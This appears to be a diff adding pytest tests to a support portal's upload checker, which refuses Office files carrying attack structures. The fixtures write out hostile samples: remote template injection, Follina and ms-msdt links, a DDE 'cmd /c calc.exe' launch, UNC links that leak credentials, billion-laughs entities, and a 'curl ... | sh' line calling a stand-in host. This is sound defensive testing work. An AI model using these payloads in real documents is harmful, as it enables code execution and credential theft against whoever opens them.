@@ -6,6 +6,7 @@ script, a PNG renamed .exe, scripts named as text and text named as scripts. The
 real pages (opening a ticket, replying, billing requests, PO supports) and come back through the
 real downloads, the staff admin's included."""
 
+import html
 import io
 import struct
 import zipfile
@@ -488,3 +489,527 @@ def test_the_whole_file_check_stays_fast_on_text_made_to_slow_it_down():
 
     assert content_type_sniff(adversarial) == "text/plain"
     assert time.perf_counter() - started < 5
+
+
+# --- Office documents: what their parts are, what they load from outside (QA review) ----------
+# A Word document laid out as Word writes it, with pictures, links and a thumbnail, and an Excel
+# workbook with links, a picture and printer settings: both stay accepted. Each refused case is
+# one of them with one part added or replaced.
+
+_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_STRICT_RELS = "http://purl.oclc.org/ooxml/officeDocument/relationships"
+_ACTIVEX_TYPE = "application/vnd.ms-office.activeX+xml"
+_OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
+_SETTINGS = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
+_IMAGE_DEFAULTS = (
+    '<Default Extension="png" ContentType="image/png"/>'
+    '<Default Extension="jpeg" ContentType="image/jpeg"/>'
+    '<Default Extension="emf" ContentType="image/x-emf"/>'
+)
+ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
+OLE = (
+    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + b"\x00" * 90
+)
+JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
+
+
+def emf() -> bytes:
+    """A real (empty) enhanced metafile: its header record and its end-of-file record."""
+    header = struct.pack(
+        "<II4i4i4sIIIHHIII2i2i",
+        1, 88, 0, 0, 9, 9, 0, 0, 254, 254, b" EMF", 0x10000, 108, 2, 1, 0, 0, 0, 0,
+        1920, 1080, 508, 286,
+    )  # fmt: skip
+    return header + struct.pack("<IIIII", 14, 20, 0, 16, 20)
+
+
+def relationships(*rows: tuple[str, str, str]) -> bytes:
+    """A .rels part: (type, target, target mode) for each relationship, mode '' if internal."""
+    items = "".join(
+        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
+        + (f' TargetMode="{mode}"' if mode else "")
+        + "/>"
+        for n, (kind, target, mode) in enumerate(rows, start=1)
+    )
+    return f'{_XML}<Relationships xmlns="{_REL}">{items}</Relationships>'.encode()
+
+
+def _word_members() -> dict[str, bytes]:
+    body = (
+        f'{_XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
+        'main"><w:body><w:p><w:r><w:t>Traceroute to 203.0.113.9, see the diagram</w:t></w:r>'
+        "</w:p></w:body></w:document>"
+    ).encode()
+    package = "http://schemas.openxmlformats.org/package/2006/relationships/metadata"
+    return {
+        "[Content_Types].xml": _types(
+            ("/word/document.xml", _WORD_MAIN),
+            ("/word/settings.xml", _SETTINGS),
+            defaults=_IMAGE_DEFAULTS,
+        ),
+        "_rels/.rels": relationships(
+            (f"{_RELS}/officeDocument", "word/document.xml", ""),
+            (f"{package}/thumbnail", "docProps/thumbnail.jpeg", ""),
+        ),
+        "docProps/thumbnail.jpeg": JPEG_BYTES,
+        "word/document.xml": body,
+        "word/settings.xml": f"{_XML}<w:settings xmlns:w='x'/>".encode(),
+        "word/_rels/document.xml.rels": relationships(
+            (f"{_RELS}/settings", "settings.xml", ""),
+            (f"{_RELS}/image", "media/image1.png", ""),
+            (f"{_RELS}/image", "media/image2.emf", ""),
+            (f"{_RELS}/image", "media/image3.jpeg", ""),
+            (
+                f"{_RELS}/hyperlink",
+                "https://status.example.net/incident?id=42&amp;l=es",
+                "External",
+            ),
+            (f"{_RELS}/hyperlink", "mailto:noc@example.org", "External"),
+            (f"{_RELS}/hyperlink", "file:///C:/Informes/enlace.docx", "External"),
+        ),  # fmt: skip
+        "word/media/image1.png": png(),
+        "word/media/image2.emf": emf(),
+        "word/media/image3.jpeg": JPEG_BYTES,
+    }
+
+
+def _excel_members() -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(xlsx())) as archive:
+        members = {info.filename: archive.read(info) for info in archive.infolist()}
+    members["xl/worksheets/_rels/sheet1.xml.rels"] = relationships(
+        (f"{_RELS}/hyperlink", "https://lookingglass.example.net/", "External"),
+        (f"{_RELS}/drawing", "../drawings/drawing1.xml", ""),
+        (f"{_RELS}/printerSettings", "../printerSettings/printerSettings1.bin", ""),
+    )
+    members["xl/drawings/drawing1.xml"] = f"{_XML}<xdr:wsDr xmlns:xdr='x'/>".encode()
+    members["xl/drawings/_rels/drawing1.xml.rels"] = relationships(
+        (f"{_RELS}/image", "../media/image1.png", "")
+    )
+    members["xl/media/image1.png"] = png()
+    # A DEVMODE as Excel keeps it: the printer's name in UTF-16, then its settings.
+    members["xl/printerSettings/printerSettings1.bin"] = "HP LaserJet".encode("utf-16-le").ljust(
+        64, b"\x00"
+    ) + struct.pack("<HHHH", 0x0401, 0x0401, 220, 0)
+    return members
+
+
+def word(extra: dict[str, bytes] | None = None) -> bytes:
+    return _zip({**_word_members(), **(extra or {})})
+
+
+def excel(extra: dict[str, bytes] | None = None) -> bytes:
+    return _zip({**_excel_members(), **(extra or {})})
+
+
+def _refused(client, ticket, name: str, content: bytes) -> str:
+    response = _reply(client, ticket, name, content)
+    assert response.status_code == 400
+    assert not Attachment.objects.exists()
+    return html.unescape(response.content.decode())
+
+
+def test_office_files_laid_out_as_office_writes_them_are_accepted(admin_client, ticket):
+    assert _reply(admin_client, ticket, "traceroute.docx", word()).status_code == 302
+    assert _reply(admin_client, ticket, "lg.xlsx", excel()).status_code == 302
+    assert sorted(Attachment.objects.values_list("content_type", flat=True)) == sorted([DOCX, XLSX])
+
+
+def _activex_control() -> bytes:
+    """An ActiveX control kept as XML (persistPropertyBag): no .bin part at all."""
+    return (
+        f'{_XML}<ax:ocx ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}" '
+        'ax:persistence="persistPropertyBag" xmlns:ax="http://schemas.microsoft.com/office/2006/'
+        'activeX"><ax:ocxPr ax:name="Caption" ax:value="Run diagnostics"/></ax:ocx>'
+    ).encode()
+
+
+def _word_types(*overrides: tuple[str, str]) -> bytes:
+    return _types(
+        ("/word/document.xml", _WORD_MAIN),
+        ("/word/settings.xml", _SETTINGS),
+        *overrides,
+        defaults=_IMAGE_DEFAULTS,
+    )
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "says"),
+    [
+        (
+            "diagnostico.docx",
+            word(
+                {
+                    "word/activeX/activeX1.xml": _activex_control(),
+                    "[Content_Types].xml": _word_types(
+                        ("/word/activeX/activeX1.xml", _ACTIVEX_TYPE)
+                    ),
+                }
+            ),
+            "contains ActiveX controls or embedded objects (word/activeX/activeX1.xml)",
+        ),
+        # The part alone, without its content type declared...
+        (
+            "diagnostico2.docx",
+            word({"word/activeX/activeX1.xml": _activex_control()}),
+            "contains ActiveX controls or embedded objects (word/activeX/activeX1.xml)",
+        ),
+        (
+            "planilla.xlsx",
+            excel({"xl/activeX/activeX1.xml": _activex_control()}),
+            "contains ActiveX controls or embedded objects (xl/activeX/activeX1.xml)",
+        ),
+        # ...and the content types alone, whatever the parts are called.
+        (
+            "diagnostico3.docx",
+            word({"[Content_Types].xml": _word_types(("/word/c/c1.xml", _ACTIVEX_TYPE))}),
+            f"contains ActiveX controls or embedded objects ({_ACTIVEX_TYPE})",
+        ),
+        (
+            "diagnostico4.docx",
+            word({"[Content_Types].xml": _word_types(("/word/o/o1.dat", _OLE_TYPE))}),
+            f"contains ActiveX controls or embedded objects ({_OLE_TYPE})",
+        ),
+        # An Excel 4.0 macro sheet: macros without a VBA project.
+        (
+            "macro4.xlsx",
+            excel(
+                {
+                    "[Content_Types].xml": _types(
+                        ("/xl/workbook.xml", _XLSX_MAIN),
+                        ("/xl/worksheets/sheet1.xml", _SHEET),
+                        ("/xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml"),
+                    )
+                }
+            ),
+            "contains macros or embedded programs (application/vnd.ms-excel.macrosheet+xml)",
+        ),
+    ],
+)
+def test_activex_and_macros_without_a_bin_part_are_refused(
+    admin_client, ticket, name, content, says
+):
+    page = _refused(admin_client, ticket, name, content)
+    assert f"{name} {says}" in page, page
+
+
+_FOLLINA = "mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html"
+
+
+@pytest.mark.parametrize(
+    ("name", "extra", "says"),
+    [
+        # Remote template injection: Word fetches a template, and runs its macros.
+        (
+            "plantilla.docx",
+            {
+                "word/_rels/settings.xml.rels": relationships(
+                    (f"{_RELS}/attachedTemplate", "http://198.51.100.7/t/normal.dotm", "External")
+                )
+            },
+            "loads attachedTemplate from outside the file when it is opened "
+            "(http://198.51.100.7/t/normal.dotm)",
+        ),
+        # CVE-2022-30190 (Follina): an OLE object that is an mhtml: link.
+        (
+            "follina.docx",
+            {
+                "word/_rels/document.xml.rels": relationships(
+                    (f"{_RELS}/oleObject", _FOLLINA, "External")
+                )
+            },
+            "loads oleObject from outside the file when it is opened (mhtml:http://198.51.100.7",
+        ),
+        (
+            "marco.docx",
+            {
+                "word/_rels/webSettings.xml.rels": relationships(
+                    (f"{_RELS}/frame", "http://198.51.100.7/f.docx", "External")
+                )
+            },
+            "loads frame from outside the file",
+        ),
+        (
+            "maestro.docx",
+            {
+                "word/_rels/document.xml.rels": relationships(
+                    (f"{_RELS}/subDocument", "\\\\198.51.100.7\\share\\s.docx", "External")
+                )
+            },
+            "loads subDocument from outside the file",
+        ),
+        # A picture from a share: opening the file sends the reader's Windows credentials.
+        (
+            "pixel.docx",
+            {
+                "word/_rels/document.xml.rels": relationships(
+                    (f"{_RELS}/image", "file://198.51.100.7/p.png", "External")
+                )
+            },
+            "loads image from outside the file",
+        ),
+        (
+            "control.docx",
+            {
+                "word/_rels/document.xml.rels": relationships(
+                    (f"{_RELS}/control", "http://198.51.100.7/c.ocx", "External")
+                )
+            },
+            "loads control from outside the file",
+        ),
+        (
+            "paquete.docx",
+            {
+                "word/_rels/document.xml.rels": relationships(
+                    (f"{_STRICT_RELS}/package", "http://198.51.100.7/p.xlsx", "External")
+                )
+            },
+            "loads package from outside the file",
+        ),
+        (
+            "vinculo.xlsx",
+            {
+                "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
+                    (f"{_RELS}/externalLinkPath", "\\\\198.51.100.7\\c$\\libro.xlsx", "External")
+                )
+            },
+            "loads externalLinkPath from outside the file",
+        ),
+        # A DDE link: no relationship at all, Excel starts the program named in the part.
+        (
+            "dde.xlsx",
+            {
+                "xl/externalLinks/externalLink1.xml": (
+                    f"{_XML}<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/"
+                    "2006/main'><ddeLink ddeService='cmd' ddeTopic=\"/c calc.exe\"><ddeItems>"
+                    "<ddeItem name='_x0031_' advise='1'/></ddeItems></ddeLink></externalLink>"
+                ).encode()
+            },
+            "loads externalLink from outside the file when it is opened "
+            "(xl/externalLinks/externalLink1.xml)",
+        ),
+        # Written so that a search of the raw bytes misses it, and the same to an XML parser:
+        # a namespace prefix, character references, single quotes.
+        (
+            "oculto.docx",
+            {
+                "word/_rels/settings.xml.rels": (
+                    f"{_XML}<r:Relationships xmlns:r='{_REL}'><r:Relationship Id='rId1' "
+                    f"Type='{_RELS}/attached&#84;emplate' Target='http://198.51.100.7/t.dotm' "
+                    "TargetMode='Ext&#101;rnal'/></r:Relationships>"
+                ).encode()
+            },
+            "loads attachedTemplate from outside the file",
+        ),
+        (
+            "utf16.docx",
+            {
+                "word/_rels/settings.xml.rels": relationships(
+                    (f"{_RELS}/attachedTemplate", "http://198.51.100.7/t.dotm", "External")
+                )
+                .decode()
+                .replace('encoding="UTF-8"', 'encoding="UTF-16"')
+                .encode("utf-16")
+            },
+            "loads attachedTemplate from outside the file",
+        ),
+    ],
+)
+def test_relationships_that_load_something_from_outside_are_refused(
+    admin_client, ticket, name, extra, says
+):
+    content = excel(extra) if name.endswith(".xlsx") else word(extra)
+    page = _refused(admin_client, ticket, name, content)
+    assert f"{name} {says}" in page, page
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "ms-msdt:/id PCWDiagnostic /skip force /param IT_RebrowseForFile=x",
+        "search-ms:query=setup&amp;crumb=location:\\\\198.51.100.7\\share",
+        "javascript:alert(1)",
+    ],
+)
+def test_a_link_that_starts_a_program_is_refused(admin_client, ticket, target):
+    """External hyperlinks stay allowed (the accepted document has web, mail and file links);
+    a link to one of Windows' program handlers starts that program on one click."""
+    extra = {
+        "word/_rels/document.xml.rels": relationships((f"{_RELS}/hyperlink", target, "External"))
+    }
+    page = _refused(admin_client, ticket, "enlace.docx", word(extra))
+    assert "enlace.docx contains a link that starts a program on the reader's computer" in page
+
+
+@pytest.mark.parametrize(
+    ("name", "extra", "says"),
+    [
+        (
+            "captura.docx",
+            {"word/media/image1.png": EXE},
+            "hides a program inside it (word/media/image1.png)",
+        ),
+        ("captura.xlsx", {"xl/media/image1.png": ELF}, "hides a program inside it (xl/media/"),
+        ("datos.docx", {"customXml/item1.xml": EXE}, "hides a program inside it (customXml/"),
+        (
+            "libro.xlsx",
+            {"xl/printerSettings/printerSettings1.bin": ELF},
+            "hides a program inside it (xl/printerSettings/printerSettings1.bin)",
+        ),
+        (
+            "script.docx",
+            {"word/fonts/font1.odttf": b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n"},
+            "hides a program inside it (word/fonts/font1.odttf)",
+        ),
+        # Another archive or an OLE compound file (an old .doc, an .msi), under any name.
+        (
+            "grafico.docx",
+            {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()},
+            "has another file embedded in it (word/embeddings/Microsoft_Excel_Worksheet.xlsx)",
+        ),
+        (
+            "foto.docx",
+            {"word/media/image3.jpeg": OLE},
+            "has another file embedded in it (word/media/image3.jpeg)",
+        ),
+        (
+            "tema.docx",
+            {"word/theme/theme1.xml": _zip({"setup.exe": EXE})},
+            "has another file embedded in it (word/theme/theme1.xml)",
+        ),
+        (
+            "gz.xlsx",
+            {"xl/media/image1.png": zlib.compress(EXE, wbits=31)},
+            "has another file embedded in it (xl/media/image1.png)",
+        ),
+        # Pictures must be pictures: markup (SVG), or anything else, is refused.
+        (
+            "icono.docx",
+            {"word/media/image4.svg": SVG},
+            "contains a part that is not a picture in a format we accept (word/media/image4.svg)",
+        ),
+        (
+            "texto.docx",
+            {"word/media/image1.png": b"Just some text in a picture's place\n"},
+            "contains a part that is not a picture in a format we accept (word/media/image1.png)",
+        ),
+        (
+            "miniatura.docx",
+            {"docProps/thumbnail.jpeg": HTA},
+            "contains a part that is not a picture in a format we accept (docProps/",
+        ),
+    ],
+)
+def test_a_program_or_archive_hidden_among_the_parts_is_refused(
+    admin_client, ticket, name, extra, says
+):
+    content = excel(extra) if name.endswith(".xlsx") else word(extra)
+    page = _refused(admin_client, ticket, name, content)
+    assert f"{name} {says}" in page, page
+
+
+def test_a_part_compressed_in_a_way_office_never_uses_is_refused(admin_client, ticket):
+    """Office writes parts stored or deflated. bzip2 and LZMA decompress without a bound on what
+    a few KB expand to, so such an archive is not opened further."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for part, data in _word_members().items():
+            method = zipfile.ZIP_BZIP2 if part == "word/document.xml" else zipfile.ZIP_DEFLATED
+            archive.writestr(part, data, compress_type=method)
+
+    page = _refused(admin_client, ticket, "bz.docx", buffer.getvalue())
+    assert "bz.docx is a damaged or password-protected file" in page
+
+
+def test_a_relationship_part_with_a_dtd_is_refused_before_its_entities_expand(admin_client, ticket):
+    """The package format forbids DTDs; with one, an entity could spell TargetMode="External",
+    or expand a billion times. Refused as damaged, at once."""
+    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
+    rels = (
+        f'{_XML}<!DOCTYPE Relationships [<!ENTITY ext "External">{laughs}]>'
+        f'<Relationships xmlns="{_REL}"><Relationship Id="rId1" Type="{_RELS}/attachedTemplate" '
+        'Target="http://198.51.100.7/t.dotm" TargetMode="&ext;"/><x>&l9;</x></Relationships>'
+    ).encode()
+
+    page = _refused(admin_client, ticket, "dtd.docx", word({"word/_rels/settings.xml.rels": rels}))
+    assert "dtd.docx is a damaged or password-protected file" in page
+
+
+def test_relationships_past_their_cap_are_refused_without_reading_on(
+    admin_client, ticket, monkeypatch
+):
+    from portal import uploads
+
+    monkeypatch.setattr(uploads, "OFFICE_RELATIONSHIPS_MAX_MB", 1)
+    links = [
+        (f"{_RELS}/hyperlink", f"https://example.net/{n:07d}", "External") for n in range(20_000)
+    ]
+    rels = relationships(*links)
+    assert len(rels) > 1024 * 1024
+
+    page = _refused(
+        admin_client, ticket, "enlaces.xlsx", excel({"xl/worksheets/_rels/sheet1.xml.rels": rels})
+    )
+    assert "enlaces.xlsx has more relationships between its parts than we can check" in page
+
+
+def test_checking_a_large_office_file_stays_fast():
+    """Every part is opened: 1,999 parts (the cap is 2,000), 400 of them relationship parts with
+    50 links each. Measured: about 0.1 s on 2 vCPUs (16 MB of relationship parts, the cap:
+    about 0.3 s)."""
+    import time
+
+    from portal.uploads import content_type_sniff
+
+    links = relationships(
+        *[(f"{_RELS}/hyperlink", f"https://example.net/{n}", "External") for n in range(50)]
+    )
+    members = _excel_members()
+    for n in range(400):
+        members[f"xl/worksheets/sheet{n + 2}.xml"] = members["xl/worksheets/sheet1.xml"]
+        members[f"xl/worksheets/_rels/sheet{n + 2}.xml.rels"] = links
+    for n in range(1999 - len(members)):
+        members[f"xl/media/image{n + 2}.png"] = png()
+    assert len(members) == 1999
+    upload = SimpleUploadedFile("big.xlsx", _zip(members))
+
+    started = time.perf_counter()
+    assert content_type_sniff(upload) == XLSX
+    assert time.perf_counter() - started < 3
+
+
+# --- what the form says about text files (QA review) ---------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("language", "says"),
+    [
+        ("en", "plain text (.txt, .log, .csv — served as .txt)"),
+        ("es", "texto (.txt, .log, .csv; se descargan como .txt)"),
+        ("pt-br", "texto (.txt, .log, .csv; são baixados como .txt)"),
+    ],
+)
+def test_the_forms_say_that_text_files_come_back_as_txt(
+    admin_client, admin_user, ticket, language, says
+):
+    admin_user.language = language
+    admin_user.save()
+
+    for url in (
+        reverse("tickets:create"),
+        reverse("tickets:detail", args=[ticket.number]),
+        reverse("billing:request_create"),
+    ):
+        page = html.unescape(admin_client.get(url).content.decode())
+        assert says in page, url
+
+
+def test_a_csv_is_stored_and_served_as_txt_as_the_form_says(admin_client, ticket):
+    csv = "fecha;enlace;latencia_ms\n2026-12-07 03:00;AR-BUE-IPVPN-20001;38,4 ±0,2\n".encode()
+
+    assert _reply(admin_client, ticket, "latencias.csv", csv).status_code == 302
+
+    attachment = Attachment.objects.get()
+    assert (attachment.filename, attachment.content_type) == ("latencias.txt", "text/plain")
+    response, body = _download(admin_client, ticket, attachment)
+    assert response["Content-Disposition"] == 'attachment; filename="latencias.txt"'
+    assert body == csv
